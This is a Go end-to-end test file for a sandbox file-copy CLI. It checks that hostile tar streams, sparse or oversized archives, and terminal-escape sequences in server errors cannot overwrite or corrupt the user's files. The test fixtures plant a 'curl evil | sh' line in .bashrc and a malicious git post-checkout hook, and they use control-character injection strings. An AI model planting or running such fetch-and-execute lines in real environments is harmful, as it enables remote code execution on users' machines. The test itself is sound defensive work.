package e2e_test

import (
	"archive/tar"
	"bytes"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hiloop/hiloop/api"
	"github.com/hiloop/hiloop/internal/e2e"
)

// cpIn runs `hiloop sandbox cp` as a user does, in the directory dir,
// against the server at url.
func cpIn(t *testing.T, dir, url string, args ...string) (stderr string, code int) {
	t.Helper()
	cmd := exec.Command(e2e.Binary(t), append([]string{"sandbox", "cp"}, args...)...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "HILOOP_URL="+url, "HILOOP_TOKEN=hl_test")
	var e bytes.Buffer
	cmd.Stderr = &e
	if err := cmd.Run(); err != nil {
		ee, ok := err.(*exec.ExitError)
		if !ok {
			t.Fatal(err)
		}
		code = ee.ExitCode()
	}
	return e.String(), code
}

// tree is every path under dir with its content ("" for a directory).
func tree(t *testing.T, dir string) map[string]string {
	t.Helper()
	got := map[string]string{}
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || p == dir {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		b, _ := os.ReadFile(p)
		got[rel] = string(b)
		return nil
	})
	return got
}

// hostileServer answers every files download with the tar stream stream,
// as a sandbox that controls what it sends would, and any other request
// with a 422 whose message carries terminal escapes.
func hostileServer(t *testing.T, stream []byte) string {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodGet && strings.HasSuffix(r.URL.Path, "/files") && stream != nil {
			w.Header().Set("Content-Type", api.TarMediaType)
			w.Write(stream)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusUnprocessableEntity)
		w.Write([]byte(`{"error":{"code":"file_operation_failed","message":"the sandbox refused: \u009b2J\u001b]0;owned\u0007\u0085gone"}}`))
	}))
	t.Cleanup(srv.Close)
	return srv.URL
}

func hostileTar(t *testing.T, entries map[string]string) []byte {
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	for name, body := range entries {
		tw.WriteHeader(&tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: 0o755, Size: int64(len(body))})
		tw.Write([]byte(body))
	}
	tw.Close()
	return b.Bytes()
}

// TestCpHostileSandbox: what comes back from a sandbox is hostile. A path
// the user asked for as a file that the sandbox turned into a directory is
// refused without -r, and with -r lands as a new directory of its own
// name, never merged into the user's; sparse and oversized streams write
// nothing; the sandbox's text reaches the terminal without escapes. The
// server here is a stand-in that sends what such a sandbox would.
func TestCpHostileSandbox(t *testing.T) {
	home := map[string]string{".bashrc": "mine"}
	setUp := func(t *testing.T) string {
		dir := t.TempDir()
		for name, content := range home {
			os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644)
		}
		return dir
	}
	planted := hostileTar(t, map[string]string{".bashrc": "curl evil | sh", ".git/hooks/post-checkout": "#!/bin/sh\nevil"})

	t.Run("directory without -r", func(t *testing.T) {
		dir := setUp(t)
		errOut, code := cpIn(t, dir, hostileServer(t, planted), "sbx_x:/app/report.txt", ".")
		if code == 0 || !strings.Contains(errOut, "is a directory: copy it with -r") {
			t.Errorf("exit %d: %s", code, errOut)
		}
		if got := tree(t, dir); len(got) != 1 || got[".bashrc"] != "mine" {
			t.Errorf("the user's directory now holds %q", got)
		}
	})

	t.Run("directory with -r", func(t *testing.T) {
		dir := setUp(t)
		if errOut, code := cpIn(t, dir, hostileServer(t, planted), "-r", "sbx_x:/app/report.txt", "."); code != 0 {
			t.Fatalf("exit %d: %s", code, errOut)
		}
		got := tree(t, dir)
		if got[".bashrc"] != "mine" || got["report.txt/.bashrc"] != "curl evil | sh" || len(got) != 6 {
			t.Errorf("the user's directory now holds %q, want .bashrc untouched and the rest under report.txt", got)
		}
		// Once more: report.txt exists now, and is not merged into.
		errOut, code := cpIn(t, dir, hostileServer(t, hostileTar(t, map[string]string{"x": "x"})), "sbx_x:/app/report.txt/", ".")
		if code == 0 || !strings.Contains(errOut, "already exists") || !strings.Contains(errOut, "--overwrite") {
			t.Errorf("into an existing directory: exit %d: %s", code, errOut)
		}
		if _, err := os.Stat(filepath.Join(dir, "report.txt", "x")); err == nil {
			t.Error("merged into an existing directory")
		}
		if errOut, code := cpIn(t, dir, hostileServer(t, hostileTar(t, map[string]string{"x": "x"})), "-r", "--overwrite", "sbx_x:/app/report.txt", "."); code != 0 {
			t.Errorf("--overwrite: exit %d: %s", code, errOut)
		}
		if b, _ := os.ReadFile(filepath.Join(dir, "report.txt", "x")); string(b) != "x" {
			t.Errorf("--overwrite did not write x: %q", b)
		}
	})

	t.Run("sparse", func(t *testing.T) {
		src := t.TempDir()
		f, _ := os.Create(filepath.Join(src, "hole"))
		f.WriteAt([]byte("end"), 1<<30)
		f.Close()
		stream, err := exec.Command("tar", "--sparse", "--format=pax", "-c", "-f", "-", "-C", src, ".").Output()
		if err != nil {
			t.Fatal(err)
		}
		dir := setUp(t)
		errOut, code := cpIn(t, dir, hostileServer(t, stream), "-r", "sbx_x:/app/d", "out")
		if code == 0 || !strings.Contains(errOut, "sparse") {
			t.Errorf("a sparse stream of %d bytes: exit %d: %s", len(stream), code, errOut)
		}
		if got := tree(t, dir); len(got) != 1 {
			t.Errorf("a refused stream left %q", got)
		}
	})

	t.Run("more bytes than allowed", func(t *testing.T) {
		dir := setUp(t)
		stream := hostileTar(t, map[string]string{"a": strings.Repeat("a", 4096), "b": strings.Repeat("b", 4096)})
		errOut, code := cpIn(t, dir, hostileServer(t, stream), "-r", "--max-bytes", "5000", "sbx_x:/app/d", "out")
		if code == 0 || !strings.Contains(errOut, "past the extraction limit") {
			t.Errorf("exit %d: %s", code, errOut)
		}
		if got := tree(t, dir); len(got) != 1 {
			t.Errorf("a refused stream left %q", got)
		}
	})

	t.Run("terminal escapes", func(t *testing.T) {
		errOut, code := cpIn(t, t.TempDir(), hostileServer(t, nil), "sbx_x:/app/f", "f")
		if code == 0 || !strings.Contains(errOut, "the sandbox refused: 2J]0;owned") {
			t.Errorf("exit %d: %q", code, errOut)
		}
		if strings.ContainsAny(errOut, "\u009b\u001b\u0007\u0085") {
			t.Errorf("control characters reached the terminal: %q", errOut)
		}
	})
}

// TestCpDirectoryInSandbox: the same refusal through the whole stack: a
// sandbox's command turns a file the user copies into a directory, and
// the CLI refuses it without -r; with -r it lands under its own name.
// Names as long as a name may be go both ways.
func TestCpDirectoryInSandbox(t *testing.T) {
	in := e2e.ServeInProcess(t, filepath.Join(t.TempDir(), "h.db"), e2e.NewNamespace(t))
	c := sdk(in, in.Token)
	sb := runningSandbox(t, c)
	work := t.TempDir()
	report := work + "/report.txt"
	in.MustCLI(in.Token, "sandbox", "exec", sb.ID, "--", "sh", "-c", `mkdir -p "$1/.git/hooks" && echo evil >"$1/.bashrc" && echo evil >"$1/.git/hooks/post-checkout"`, "sh", report)

	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, ".bashrc"), []byte("mine"), 0o644)
	cmd := func(args ...string) (string, int) {
		c := exec.Command(e2e.Binary(t), append([]string{"sandbox", "cp"}, args...)...)
		c.Dir, c.Env = dir, in.Env(in.Token)
		out, err := c.CombinedOutput()
		if ee, ok := err.(*exec.ExitError); ok {
			return string(out), ee.ExitCode()
		}
		return string(out), 0
	}
	if out, code := cmd(sb.ID+":"+report, "."); code == 0 || !strings.Contains(out, "copy it with -r") {
		t.Errorf("a directory copied without -r: exit %d %s", code, out)
	}
	if got := tree(t, dir); len(got) != 1 || got[".bashrc"] != "mine" {
		t.Errorf("the user's directory now holds %q", got)
	}
	if out, code := cmd("-r", sb.ID+":"+report, "."); code != 0 {
		t.Fatalf("-r: exit %d %s", code, out)
	}
	if got := tree(t, dir); got[".bashrc"] != "mine" || got["report.txt/.bashrc"] != "evil\n" {
		t.Errorf("after -r the user's directory holds %q", got)
	}

	long := strings.Repeat("n", 255)
	os.WriteFile(filepath.Join(dir, long), []byte("long"), 0o644)
	if out, code := cmd(long, sb.ID+":"+work+"/"+long); code != 0 {
		t.Fatalf("upload of a 255-byte name: exit %d %s", code, out)
	}
	os.Remove(filepath.Join(dir, long))
	if out, code := cmd(sb.ID+":"+work+"/"+long, "."); code != 0 {
		t.Fatalf("download of a 255-byte name: exit %d %s", code, out)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, long)); string(b) != "long" {
		t.Errorf("the 255-byte name came back as %q", b)
	}
}
